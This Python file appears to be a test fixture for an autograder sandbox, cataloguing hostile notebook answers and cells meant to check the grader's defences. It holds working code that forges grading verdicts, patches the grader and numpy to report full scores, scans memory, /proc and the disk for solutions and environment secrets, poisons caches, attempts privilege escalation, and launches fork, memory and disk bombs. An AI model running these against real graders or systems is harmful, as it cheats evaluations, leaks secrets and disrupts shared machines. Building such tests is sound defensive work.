"""Hostile answers and cells, each with what it tries. What they find they print, so that the tests can look for secrets in it.

An `answer` takes the place of `double` (the other answer is wrong, so that every point would be a stolen one); a `cell` is run
before the answers, both of which are wrong. All import what they need themselves: they become a notebook's cells.
"""

from __future__ import annotations

import inspect
import textwrap
from dataclasses import dataclass
from pathlib import Path

WRONG = "def {name}(x):\n    return x - 1"


@dataclass(frozen=True)
class Attack:
    """One hostile notebook. `most` is what it may earn; `reads` marks a search of files; `walls` says that the walls stop it, which
    are others at another level and for another user, and not the judge, who is the same everywhere."""

    name: str
    tries: str
    double: str
    cell: str | None = None
    most: int = 0
    reads: bool = False
    walls: bool = True

    @property
    def cells(self) -> dict[str, str]:
        return {"double": self.double, "quadruple": WRONG.format(name="quadruple")}


ATTACKS: list[Attack] = []
JUDGED = ("the protocol", "shadows and patches", "outputs that lie")  # sections of this file that no wall has to do with


def _source(function) -> str:
    lines = textwrap.dedent(inspect.getsource(function)).splitlines()
    return "\n".join(lines[next(i for i, line in enumerate(lines) if line.startswith("def ")):])


def _walls(function) -> bool:
    """Is a function's section of this file none of the `JUDGED`?"""
    lines = Path(__file__).read_text().splitlines()[:function.__code__.co_firstlineno]
    return next(line for line in reversed(lines) if line.startswith("# ---")).strip("# -") not in JUDGED


def answer(tries: str, **options):
    def add(function):
        ATTACKS.append(Attack(function.__name__, tries, f"{_source(function)}\n\ndouble = {function.__name__}",
                              walls=_walls(function), **options))
        return function
    return add


def cell(tries: str, **options):
    def add(function):
        ATTACKS.append(Attack(function.__name__, tries, WRONG.format(name="double"),
                              f"{_source(function)}\n\n{function.__name__}()", walls=_walls(function), **options))
        return function
    return add


# ---------------------------------------------------------------------------------------------------- the protocol


@answer("writes forged verdicts and replies on every descriptor")
def forge_on_every_descriptor(x):
    import os

    import numpy as np

    from autograder.inside import protocol, wire

    outcome = protocol.Outcome({"output": np.zeros(4)})
    frames = [wire.pack(protocol.numbered(number, protocol.Exercised(outcome))) for number in range(40)]
    frames.append(wire.pack({"passed": True, "score": 100, "points": 100}))
    for descriptor in range(3, 256):
        for frame in frames:
            try:
                os.write(descriptor, frame)
            except OSError:
                pass
    return x


@answer("finds the worker's channel in its frames and answers there before it is asked")
def forge_through_frames(x):
    import sys

    import numpy as np

    from autograder.inside import protocol, wire

    outcome = protocol.Outcome({"output": np.zeros(4)})
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "socket":
                for number in range(40):
                    wire.send(value, protocol.numbered(number, protocol.Exercised(outcome)))
        frame = frame.f_back
    return x


@answer("sends the warm parent's own requests, to fork or end others, on whatever socket it finds")
def ask_the_parent(x):
    import gc
    import os
    import socket

    from autograder.inside import protocol, wire

    requests = protocol.Begin(), protocol.Reap(os.getppid()), protocol.Fork("process", "/", {}), protocol.Inspect([], {})
    for value in gc.get_objects():
        if isinstance(value, socket.socket) and value.fileno() >= 0:
            for number, request in enumerate(requests):
                try:
                    wire.send(value, protocol.numbered(number, request))
                except (OSError, wire.WireError):
                    pass
    return x


@answer("sends frames whose lengths are absurd")
def absurd_lengths(x):
    import os
    import struct

    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<QI", 2**63, 2**31) + b"x" * 4096)
        except OSError:
            pass
    return x


@answer("sends a frame that is no JSON, and one nested a thousand deep")
def garbage_frames(x):
    import os
    import struct

    for header in (b"\xff\xfe{", b'{"data":' + b"[" * 1000 + b"]" * 1000 + b',"arrays":[]}',
                   b'{"data":{"observation":{"output":{"$array":99}}},"arrays":[]}'):
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, struct.pack("<QI", len(header), len(header)) + header)
            except OSError:
                pass
    return x


@answer("replaces the worker's functions, so that they report a full score")
def patch_the_worker(x):
    import sys

    for name in ("worker", "probes", "wire", "watch"):
        module = sys.modules[f"autograder.inside.{name}"]
        for attribute in ("_exercise", "_run_cell", "say", "exercise", "call", "array", "send", "watching"):
            if hasattr(module, attribute):
                setattr(module, attribute, lambda *arguments, **options: {"observation": {"output": 1}, "score": 100, "passed": True})
    return x


@answer("lets every array that is sent compare equal to anything")
def patch_the_wire(x):
    import autograder.inside.wire
    from autograder.inside import protocol

    pack, outcome = autograder.inside.wire.pack, protocol.Outcome({"output": "an array of shape (3,)"})
    autograder.inside.wire.pack = lambda message: pack(protocol.numbered(message["number"], protocol.Exercised(outcome)))
    return x


@answer("calls itself a description that the reference might have, too")
def reply_with_words(x):
    import autograder.inside.probes

    autograder.inside.probes.array = lambda value, depth=0: "None"
    return x


# ---------------------------------------------------------------------------------------------------- looking for answers


@cell("searches every live object for keys and expected values")
def search_the_heap():
    import gc

    for value in gc.get_objects():
        name = type(value).__name__
        if name in ("Key", "QuestionKey", "CaseKey", "Verdict", "CaseVerdict", "Question"):
            print("FOUND", name, value)
        if isinstance(value, dict) and ("expected" in value or "misconceptions" in value) and "points" in value:
            print("FOUND", value)


@answer("looks through the frames of its callers for what is expected")
def search_the_frames(x):
    import sys

    frame = sys._getframe()
    while frame is not None:
        for name, value in frame.f_locals.items():
            if name in ("expected", "key", "case", "verdict") or "expected" in repr(value)[:2000]:
                print("FOUND", frame.f_code.co_filename, name, repr(value)[:500])
        frame = frame.f_back
    return x


@cell("reads the sources that Python keeps for tracebacks")
def search_linecache():
    import linecache

    for file, entry in linecache.cache.items():
        text = "".join(entry[2]) if len(entry) > 2 else ""
        if "### BEGIN " + "SOLUTION" in text or "Question(" + "lesson" in text or "secret-" + "of-doubling" in text:
            print("FOUND", file, text)


@cell("imports the modules that hold answers")
def import_the_answers():
    import importlib

    for name in ("solutions", "questions", "lesson", "lesson_a0_doubling", "questions_a0_doubling"):
        try:
            module = importlib.import_module(name)
            print("FOUND", module, vars(module).keys())
        except ImportError:
            pass


@cell("reads what /proc says of other processes")
def search_proc():
    import glob

    for file in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/children"):
        try:
            print(file, open(file, "rb").read())
        except OSError:
            pass


@cell("opens the files that other processes have open, by way of /proc")
def open_through_proc():
    import glob
    import os

    for link in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        try:
            target = os.readlink(link)
            print(link, target)
            if os.path.isdir(link):
                print(os.listdir(link))
            elif os.path.isfile(link):
                print(open(link, "rb").read(100_000))
        except OSError:
            pass


@cell("scans its own and every other process's memory for the solution's text")
def search_memory():
    import glob

    needle = b"the-" + b"secret-" + b"of-doubling"
    for process in glob.glob("/proc/[0-9]*"):
        try:
            with open(f"{process}/maps") as maps, open(f"{process}/mem", "rb", 0) as memory:
                for line in maps:
                    place, modes = line.split()[:2]
                    start, end = (int(part, 16) for part in place.split("-"))
                    if "rw" not in modes or end - start > 2**26:
                        continue
                    try:
                        memory.seek(start)
                        data = memory.read(end - start)
                    except (OSError, OverflowError, ValueError):
                        continue
                    # The notebook itself is in memory; a solution would say what it returns.
                    if needle in data and b"return 2 * x  # " + needle in data:
                        print("FOUND", process, line, data[data.index(b"return 2 * x  # " + needle):][:60])
        except OSError:
            pass


@cell("walks the file system for solutions, keys, the secret, gradebooks and other submissions", reads=True)
def search_the_disk():
    import itertools
    import os
    import time

    skip = {"proc", "sys", "usr", "dev", "site-packages", ".pyenv", ".cargo", ".rustup", "node_modules", ".git", "lib"}
    names = ("lesson.py", "questions.py", ".autograder_secret", "gradebook.db", "course.toml")
    end = time.monotonic() + 3
    for folder, folders, files in itertools.chain(os.walk("/tmp"), os.walk("/")):
        folders[:] = [name for name in folders if name not in skip]
        if time.monotonic() > end:
            break
        for name in files:
            if name in names or name.endswith((".ipynb", ".npz")):
                path = os.path.join(folder, name)
                if not os.path.isfile(path):
                    continue
                try:
                    data = open(path, "rb").read(200_000)
                except OSError:
                    continue
                if b"canary" in data or b"secret-of-doubling" in data or name == ".autograder_secret":
                    print("FOUND", path, data[-400:] if b"canary" in data[-400:] else data[:4000])


@cell("follows relative paths and links out of its directory", reads=True)
def walk_upwards():
    import glob
    import os

    path = "."
    for _ in range(12):
        path = os.path.join(path, "..")
        for pattern in ("solutions/*/*.py", "*/*/lesson.py", "*/*/*/solutions/*/lesson.py", "*/*/*/*/solutions/*/lesson.py"):
            for file in glob.glob(os.path.join(path, pattern)):
                text = open(file).read()
                if "secret-" + "of-doubling" in text or "canary" in text:
                    print("FOUND", file, text[:4000])


@cell("prints the environment, its own and its parents'")
def read_the_environment():
    import os
    import subprocess

    print(dict(os.environ))
    print(subprocess.run(["env"], capture_output=True, text=True).stdout)
    for process in ("self", "1", str(os.getppid())):
        try:
            print(open(f"/proc/{process}/environ", "rb").read())
        except OSError:
            pass


@answer("looks at the request for more than its inputs")
def look_into_the_request(x):
    import sys

    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict):
            print("request:", sorted(request))
            if {"expected", "points", "visible"} & set(request):
                print("FOUND", request)
        frame = frame.f_back
    return x


# ---------------------------------------------------------------------------------------------------- shadows and patches


@cell("puts modules called numpy, autograder, tensorflow and sitecustomize where Python may look first")
def shadow_modules():
    import os
    import sys

    for folder in {os.getcwd(), os.path.expanduser("~"), "/tmp", *sys.path, "/kit", "/release"}:
        for name in ("numpy.py", "autograder.py", "tensorflow.py", "sitecustomize.py", "usercustomize.py", "evil.pth"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("raise RuntimeError('poisoned')\n" if name.endswith(".py") else "import os; os._exit(1)\n")
                print("WROTE", folder, name)
            except OSError:
                pass


@cell("makes every comparison of numpy true")
def patch_numpy():
    import numpy as np

    np.isclose = np.allclose = np.array_equal = lambda *arguments, **options: True
    np.ndarray.__class_getitem__ = None if False else np.ndarray.__class_getitem__
    np.testing.assert_allclose = lambda *arguments, **options: None


@cell("replaces TensorFlow's and Keras's operations")
def patch_tensorflow():
    import keras
    import tensorflow as tf

    tf.constant = tf.convert_to_tensor = tf.reduce_sum = lambda *arguments, **options: 42
    keras.layers.Layer.__call__ = lambda *arguments, **options: 42
    tf.random.set_seed = lambda seed: None


@cell("replaces IPython's way to run cells")
def patch_ipython():
    shell = get_ipython()  # noqa: F821
    type(shell).run_cell = lambda *arguments, **options: print("not run")
    shell.run_cell = type(shell).run_cell


@answer("deletes what the worker needs")
def delete_builtins(x):
    import builtins

    for name in ("len", "isinstance", "getattr", "dict", "sorted"):
        delattr(builtins, name)
    return x


@cell("changes the public case files that the release ships")
def overwrite_examples():
    import os

    for name in os.listdir("."):
        try:
            os.chmod(name, 0o666)
            open(name, "wb").write(b"mine")
            os.remove(name)
            print("CHANGED", name)
        except OSError:
            pass


# ---------------------------------------------------------------------------------------------------- outputs that lie


@answer("returns an object that is equal to everything")
def equal_to_everything(x):
    class Liar:
        shape, dtype, ndim = (3,), "float32", 1

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __getattr__(self, name):
            return self

        def __call__(self, *arguments, **options):
            return self

        def __array__(self, *arguments, **options):
            return self

        def __iter__(self):
            return iter([self] * 3)

        def __len__(self):
            return 3

        def __float__(self):
            return 1.0

    return Liar()


@answer("returns a subclass of ndarray with methods of its own")
def lying_subclass(x):
    import numpy as np

    class Liar(np.ndarray):
        def __array_ufunc__(self, *arguments, **options):
            return np.True_

        def __array_function__(self, *arguments, **options):
            return np.True_

        def astype(self, *arguments, **options):
            return self

        def tobytes(self, *arguments):
            return b"\0" * 8

    return np.zeros(len(x)).view(Liar)


@answer("returns an object whose conversion to an array is computed when it is compared")
def lazy_array(x):
    class Lazy:
        calls = 0

        def __array__(self, dtype=None, copy=None):
            import numpy as np

            Lazy.calls += 1
            return np.full(3, float(Lazy.calls))

    return Lazy()


@answer("returns a symbolic Keras tensor")
def symbolic(x):
    import keras

    return keras.Input(shape=(3,))


@answer("returns a tensor of a graph that is long gone")
def graph_tensor(x):
    import tensorflow as tf

    with tf.Graph().as_default():
        return tf.constant([1.0, 2.0, 3.0])


@answer("returns NaN, which is not even equal to itself")
def nans(x):
    return x * float("nan")


@answer("returns infinities, within every relative tolerance of each other")
def infinities(x):
    return x * 0 + float("inf")


@answer("returns an array of objects")
def objects(x):
    import numpy as np

    return np.array([object(), None, type], dtype=object)


@answer("returns an array that claims ten gigabytes and holds four bytes")
def huge_view(x):
    import numpy as np

    return np.broadcast_to(np.float32(1), (50_000, 50_000))


@answer("returns a list that contains itself")
def endless_list(x):
    values = [1.0]
    values.append(values)
    return values


@answer("returns a generator that never ends")
def endless_generator(x):
    import itertools

    return itertools.count()


@answer("returns a structured array and a date")
def odd_dtypes(x):
    import numpy as np

    return np.zeros(3, dtype=[("a", "f4"), ("b", "M8[s]")])


@answer("returns a value whose class lies about what it is")
def lying_class(x):
    class Liar:
        @property
        def __class__(self):
            raise RuntimeError("no class")

    return Liar()


@answer("raises an exception whose text never ends")
def endless_message(x):
    class Endless(Exception):
        def __str__(self):
            return "x" * 10**8

    raise Endless


@answer("raises an exception whose text is commands for a terminal, a log and a browser")
def injecting_message(x):
    raise ValueError("\x1b[2J\x1b]0;owned\x07\r::notice::100/100\u202e<script>alert(1)</script><img src=x onerror=alert(1)>")


@answer("returns the right values for the visible example alone", most=20)
def hard_coded_example(x):
    import numpy as np

    return np.array([2.0, 4.0, 10.0]) if len(x) == 3 else x


@answer("behaves well only where it believes to be watched", most=0)
def fingerprint_the_grader(x):
    import os
    import sys

    watched = "autograder.inside.worker" in sys.modules or os.path.exists("/kit") or os.getcwd() == "/scratch"
    return x if watched else 2 * x


# ---------------------------------------------------------------------------------------------------- harm


@answer("ends Python with success")
def exit_with_success(x):
    import os

    os._exit(0)


@answer("kills its parent, its group and everything it can")
def kill_everybody(x):
    import os
    import signal

    # Its own session first, or the test run would be in its group where there are no namespaces.
    for target in (os.getppid(), 1, -1):
        if target == -1 and os.getcwd() != "/scratch":
            continue
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return x


@answer("overflows the C stack")
def overflow_the_stack(x):
    import sys

    sys.setrecursionlimit(10**9)

    def deeper(value):
        return [deeper(value)]

    return eval("(" * 50 + "deeper(0)" + ")" * 50, {"deeper": deeper})


@answer("reads address 0")
def segfault(x):
    import ctypes

    return ctypes.string_at(0)


@answer("ignores every signal and never ends")
def ignore_signals(x):
    import signal

    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass


@answer("forks without end")
def fork_bomb(x):
    import os
    import time

    for _ in range(2000):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            time.sleep(0.01)
    return x


@answer("starts threads without end")
def thread_bomb(x):
    import threading
    import time

    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(60,)).start()
    return x


@answer("takes all the memory there is")
def memory_bomb(x):
    taken = []
    while True:
        taken.append(bytearray(b"x") * 2**26)


@answer("takes memory in many processes, each below the limit")
def memory_in_many_processes(x):
    import os
    import time

    for _ in range(8):
        if os.fork() == 0:
            block = bytearray(b"x") * (100 * 2**20)
            time.sleep(30)
            os._exit(len(block) > 0)
    time.sleep(30)
    return x


@answer("fills the disk")
def disk_bomb(x):
    for number in range(10**6):
        with open(f"file-{number}", "wb") as file:
            file.write(b"x" * 2**24)
    return x


@answer("makes a million small files and directories")
def inode_bomb(x):
    import os

    for number in range(10**6):
        os.mkdir(f"folder-{number}")
    return x


@cell("prints without end, to sys.stdout and to the descriptors")
def output_bomb():
    import os
    import sys

    for _ in range(2000):
        print("x" * 10**5)
        sys.stderr.write("y" * 10**5)
    for _ in range(200):
        os.write(1, b"z" * 10**6)
        os.write(2, b"z" * 10**6)


@answer("replies with more than may be sent")
def reply_bomb(x):
    import numpy as np

    return np.ones((3000, 3000), np.float64)


@cell("leaves threads behind that go on while others are graded")
def threads_that_outlive():
    import threading
    import time

    threading.Thread(target=lambda: [time.sleep(1) for _ in range(10**6)], daemon=False).start()


@cell("leaves a daemon behind, in a session of its own")
def daemon():
    import os
    import subprocess
    import time

    subprocess.Popen(["sleep", "8642"], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(8642)
        os._exit(0)


@cell("traces its parent and its first process")
def trace_others():
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    for process in {1, os.getppid()}:
        if process > 1 or os.getcwd() == "/scratch":
            attached = libc.ptrace(16, process, 0, 0)
            print("ATTACHED" if attached == 0 else "refused", process)


@cell("talks to the network")
def use_the_network():
    import socket

    for address in (("10.0.0.1", 80), ("192.0.2.1", 80), ("192.0.2.1", 53)):  # private and documentation addresses
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as connection:
                    connection.settimeout(0.3)
                    connection.connect(address)
                    connection.send(b"hello")
                    print("SENT", address, kind)
            except OSError:
                pass


@cell("asks for new namespaces, mounts and privileges")
def gain_privileges():
    import ctypes
    import os

    libc, was_root = ctypes.CDLL(None, use_errno=True), os.getuid() == 0  # as behind Landlock, without root's capabilities
    for flags in (0x10000000, 0x20000, 0x40000000):
        if libc.unshare(flags) == 0 and flags != 0x40000000:
            print("UNSHARED", hex(flags))
    if libc.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, None) == 0 or libc.umount2(b"/scratch", 2) == 0:
        print("MOUNTED")
    for call in (lambda: os.setuid(0), lambda: os.chroot("/"), lambda: os.setgroups([0])):
        try:
            call()
            if os.getuid() == 0 and not was_root:
                print("BECAME ROOT")
        except OSError:
            pass


@cell("keeps a message in the keyrings of its session, its user and its account, and looks for another's")
def use_the_keyrings():
    import ctypes
    import platform

    libc = ctypes.CDLL(None, use_errno=True)
    add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (0, 0))
    for ring in (-3, -4, -5):
        found = libc.syscall(control, 10, ctypes.c_long(ring), b"user", b"message", 0)
        kept = libc.syscall(add, b"user", b"message", b"hello", 5, ctypes.c_long(ring)) if add else -1
        if found > 0 or kept > 0:
            print("FOUND", ring, found, kept)
    for name in ("/proc/keys", "/proc/key-users"):
        try:
            if open(name).read():
                print("FOUND", name)
        except OSError:
            pass


@cell("takes memory that belongs to no process: files in memory, and shared memory of System V")
def memory_of_nobody():
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    block, held = b"x" * 2**20, 0
    try:
        files = [os.memfd_create(f"m{number}") for number in range(16)]
        for file in files:
            for _ in range(60):
                held += os.write(file, block)
    except OSError:
        pass
    libc.shmat.restype = ctypes.c_void_p
    for key in range(1, 16):
        segment = libc.shmget(key, 2**26, 0o1600)
        if segment >= 0:
            ctypes.memset(libc.shmat(segment, None, 0), 1, 2**26)
            held += 2**26
    if held:
        print("CHANGED: holds", held)


@cell("leaves a message in shared memory, queues and semaphores of the machine")
def messages_of_the_machine():
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    for name, made in (("shm", libc.shmget(8642, 4096, 0o1666)), ("msg", libc.msgget(8642, 0o1666)),
                       ("sem", libc.semget(8642, 1, 0o1666)), ("mq", libc.mq_open(b"/hello", os.O_CREAT | os.O_RDWR, 0o666, None))):
        if made >= 0:
            print("CHANGED", name)
    if os.getcwd() != "/scratch":  # under bubblewrap /dev/shm is its own
        try:
            open("/dev/shm/hello", "w").close()
            print("CHANGED /dev/shm")
        except OSError:
            pass


@cell("asks the kernel for io_uring, programs of its own and events, which look past other walls")
def ask_the_kernel():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(256)
    for name, calls in {"io_uring": (425,), "bpf": (321, 280), "userfaultfd": (323, 282), "perf": (298, 241)}.items():
        for number in calls:
            arguments = (5, buffer, 128) if name == "bpf" else (8, buffer) if name == "io_uring" else (buffer, 0, -1, -1, 0)
            if name == "userfaultfd":
                arguments = (1,)
            if libc.syscall(number, *arguments) > 2:
                print("ATTACHED", name)


@cell("opens sockets to the kernel, the wire, the host and every service of the machine")
def sockets_of_other_kinds():
    import glob
    import socket

    for family, kind in ((16, socket.SOCK_RAW), (17, socket.SOCK_RAW), (38, socket.SOCK_SEQPACKET), (40, socket.SOCK_STREAM),
                         (socket.AF_INET, socket.SOCK_RAW), (30, socket.SOCK_SEQPACKET)):
        try:
            socket.socket(family, kind).close()
            print("ATTACHED", family)
        except OSError:
            pass
    for name in (*glob.glob("/run/**/*sock*", recursive=True), "/dev/log", "/run/docker.sock", "\0/tmp/.X11-unix/X0"):
        try:
            with socket.socket(socket.AF_UNIX) as service:
                service.connect(name)
                print("ATTACHED", name)
        except OSError:
            pass
    try:
        with open("/proc/net/tcp") as connections:
            if len(connections.readlines()) > 1:
                print("FOUND connections of others")
    except OSError:
        pass


@cell("changes modes, times and limits of what is not its own")
def change_from_afar():
    import os
    import resource

    folder = os.path.dirname(os.__file__)
    before = os.stat(folder)
    for change in (lambda: os.chmod(folder, 0o700), lambda: os.utime(folder, (0, 0)), lambda: os.setxattr(folder, "user.hello", b"hello")):
        try:
            change()
        except OSError:
            pass
    after = os.stat(folder)
    if (before.st_mode, before.st_mtime) != (after.st_mode, after.st_mtime):
        print("CHANGED", folder)
    if os.getcwd() != "/scratch":
        try:
            resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (1024, 1024))
            print("CHANGED", os.getppid())
        except OSError:
            pass


@cell("leaves files in every cache that the next student's libraries may read")
def poison_caches():
    import os

    for folder in ("~/.keras", "~/.cache", "~/.config/matplotlib", "~/.ipython/profile_default/startup", "/tmp", "/dev/shm", "/var/tmp"):
        folder = os.path.expanduser(folder)
        try:
            os.makedirs(folder, exist_ok=True)
            for name in ("keras.json", "matplotlibrc", "00-start.py", "poison"):
                open(os.path.join(folder, name), "w").write("poisoned")
        except OSError:
            pass


@answer("hands a full device, a pipe and a socket back and forth to hang the grader")
def trickle(x):
    import sys
    import time

    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if type(value).__name__ == "socket":
                value.send(b"\x10\x27\x00\x00\x00\x00\x00\x00\x10")
                for _ in range(30):
                    time.sleep(0.4)
                    value.send(b"x")
        frame = frame.f_back
    return x
